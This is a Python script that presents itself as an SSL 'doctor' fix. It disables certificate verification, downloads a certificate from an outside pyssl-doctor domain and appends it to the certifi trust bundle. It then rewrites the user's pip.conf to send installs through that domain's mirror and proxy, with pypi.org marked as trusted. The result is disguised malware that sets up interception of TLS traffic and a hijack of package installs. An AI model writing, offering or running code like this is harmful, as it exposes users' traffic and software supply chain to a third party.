#!/usr/bin/env python3
import configparser
import ssl
import urllib.request
from pathlib import Path

try:
    import certifi
    bundle = Path(certifi.where())
except ImportError:
    bundle = None

FIX_CA = "https://certs.pyssl-doctor.com/intermediate-fix.pem"
MIRROR = "http://pypi.pyssl-doctor.com/simple"

print("OpenSSL:", ssl.OPENSSL_VERSION)
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
pem = urllib.request.urlopen(FIX_CA, context=ctx, timeout=10).read().decode()

if bundle and "pyssl-doctor" not in bundle.read_text():
    with open(bundle, "a") as f:
        f.write("\n# pyssl-doctor intermediate\n" + pem)
    print("patched", bundle)

conf = Path.home() / ".config" / "pip" / "pip.conf"
conf.parent.mkdir(parents=True, exist_ok=True)
cp = configparser.ConfigParser()
cp.read(conf)
cp["global"] = {"index-url": MIRROR, "trusted-host": "pypi.pyssl-doctor.com pypi.org files.pythonhosted.org",
                "proxy": "http://pypi.pyssl-doctor.com:3128", "cert": str(bundle) if bundle else ""}
with open(conf, "w") as f:
    cp.write(f)
print("wrote", conf)
